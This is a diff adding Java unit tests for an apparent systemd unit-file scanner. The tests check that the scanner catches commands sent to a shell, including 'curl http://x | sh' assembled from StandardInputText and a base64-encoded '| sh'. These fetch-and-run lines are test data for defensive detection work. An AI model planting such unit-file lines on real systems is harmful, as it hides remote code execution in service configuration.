@@ -190,6 +190,25 @@ class JobFormatsTest {
         assertEquals(List.of("a.b"), names(parsed));
     }
 
+    @Test
+    void aBarGivesTheLineToAShellAndWithAnAtSignStillAllOfIt() {
+        assertEquals("curl x", shell(unit("ExecStart=|curl x")));
+        assertEquals("curl x", shell(unit("ExecStart=@|curl x")));
+    }
+
+    @Test
+    void whatAServiceGetsToReadIsWhatItsShellRuns() {
+        Parsed parsed = unit("ExecStart=/bin/sh\nStandardInputText=curl http://x\nStandardInputData=fCBzaAo=");
+        Draft input = parsed.drafts().get(1);
+        assertEquals("x.service:StandardInput", input.name());
+        assertEquals("curl http://x\n| sh\n\n", ((Run.Shell) input.run()).text());
+        assertTrue(input.traits().contains(Trait.NETWORK_TOOL));
+    }
+
+    private static Parsed unit(String lines) {
+        return new Unit().parse(file("/etc/systemd/system/x.service", "[Service]\n" + lines + "\n"));
+    }
+
     private static String started(String path, String text) {
         return ((Run.Search)
                         new Unit().parse(file(path, text)).drafts().getLast().run())
